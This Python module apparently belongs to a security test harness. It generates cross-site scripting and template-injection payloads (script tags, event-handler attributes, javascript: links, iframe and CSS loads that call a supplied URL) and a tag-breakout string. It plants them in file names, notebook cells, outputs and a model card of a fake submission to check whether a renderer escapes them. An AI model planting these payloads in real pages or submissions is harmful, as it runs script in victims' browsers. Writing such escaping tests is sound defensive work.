"""R64: text that becomes active where a page does not escape it.

`vectors(url)` maps a name to HTML that asks `url` for that name once it acts: by running a script,
which also leaves a mark in the page, or by loading something.
"""

from __future__ import annotations

import json
from pathlib import Path

MARK = "PWNED"
"""Stands in a page whose scripts run; no attack holds the word in one piece."""

_BREAK_OUT = "</title></style></textarea></pre></code></script>--><!-- -->\"'>"


def vectors(url: str) -> dict[str, str]:
    """Give every way in; in the control all of them act."""

    def run(name: str) -> str:
        mark = f"document.documentElement.setAttribute('data-{name}','PW'+'NED')"
        return f"{mark};new Image().src='{url}/{name}'"

    return {
        "script": f"<script>{run('script')}</script>",
        "script-src": f'<script src="{url}/script-src"></script>',
        "img-error": f'<img src="data:," onerror="{run("img-error")}">',
        "svg": f'<svg onload="{run("svg")}"><circle r="9"/></svg>',
        "svg-use": f'<svg><image href="{url}/svg-use" width="9" height="9"/></svg>',
        "toggle": f'<details open ontoggle="{run("toggle")}">x</details>',
        "focus": f'<input autofocus onfocus="{run("focus")}">',
        "frame": f'<iframe src="{url}/frame"></iframe>',
        "frame-text": f'<iframe srcdoc="<img src={url}/frame-text>"></iframe>',
        "style": f'<p style="background:url({url}/style)">x</p>',
        "import": f'<style>@import "{url}/import";</style>',
        "link": f'<link rel="stylesheet" href="{url}/link">',
        "img": f'<img src="{url}/img">',
        "picture-set": f'<img srcset="{url}/picture-set 1x">',
        "poster": f'<video poster="{url}/poster"></video>',
        "object": f'<object data="{url}/object"></object>',
        "refresh": f'<meta http-equiv="refresh" content="1;url={url}/refresh">',
    }


def everything(url: str) -> str:
    """Give one line that holds all of it, with links and formulas that wait for a click."""
    waiting = (
        f"[click](javascript:alert(1)) ![pixel]({url}/markdown) <{url}/autolink> "
        "$\\href{javascript:alert(1)}{x}$ \\(\\unicode{x3c}script\\) {{ 7 * 7 }} ${7*7} "
        '<a href="javascript:alert(1)">x</a> <a href="data:text/html,<script>1</script>">y</a>'
    )
    return _BREAK_OUT + " ".join(vectors(url).values()) + " " + waiting


def write_hand_in(folder: Path, url: str) -> None:
    """Write a hand-in that says it in headings, answers, code, outputs, file names, a model card."""
    attack = everything(url)
    shown = {
        "text/html": attack,
        "image/svg+xml": vectors(url)["svg"],
        "application/javascript": "document.title = 'PW' + 'NED'",
        "text/markdown": attack,
        "text/latex": "$\\href{javascript:alert(1)}{x}$",
        "text/plain": attack,
    }
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": shown},
        {"output_type": "stream", "name": "stdout", "text": f"accuracy: 0.91 {attack}\n"},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
    ]
    source = f"from transformers import Trainer\ntrainer = Trainer()\ntrainer.train()  # {attack}\n"
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1}
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"# Explanation {attack}\n\n{attack}"},
        code | {"source": source, "outputs": outputs},
    ]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"title": attack}, "cells": cells}
    answers = f"# Answers {attack}\n\n1. B {attack}\n2. D\n\n## Reflection\n\n{attack}\n"
    config = {"model_type": attack, "architectures": [attack], "id2label": {"0": attack}}
    texts = {
        "<img src=x onerror=alert(1)>.md": f"# Explanation\n\n{attack}",
        "javascript:alert(1).ipynb": json.dumps(notebook),
        "[x](javascript:alert(1)).py": source,
        "answers.md": answers,
        "saved/README.md": f"---\nlicense: mit\ntitle: {attack}\n---\n# Card {attack}\n",
        "saved/config.json": json.dumps(config),
        "data.csv": f"text,label\n{attack.replace(',', ';')},1\n",
    }
    for name, text in texts.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def notebook_that_shows_it(url: str) -> str:
    """Write a notebook whose cells show all of it when they are run."""
    attack = everything(url)
    shows = (
        "from IPython.display import HTML, Javascript, Latex, Markdown, display\n"
        f"attack = {attack!r}\n"
        "for kind in (HTML, Markdown, Latex, Javascript):\n"
        "    display(kind(attack))\n"
        f"display({{'image/svg+xml': {vectors(url)['svg']!r}}}, raw=True)\n"
        "display({'text/html': attack, 'text/plain': attack, 'image/png': attack}, raw=True)\n"
        "display({'text/html': [attack], 'application/javascript': 'alert(1)'}, raw=True)\n"
        "print(attack)\nraise ValueError(attack)"
    )
    code = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": []}
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"# {attack}\n\n{attack}"},
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": attack},
        code | {"source": shows},
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells})
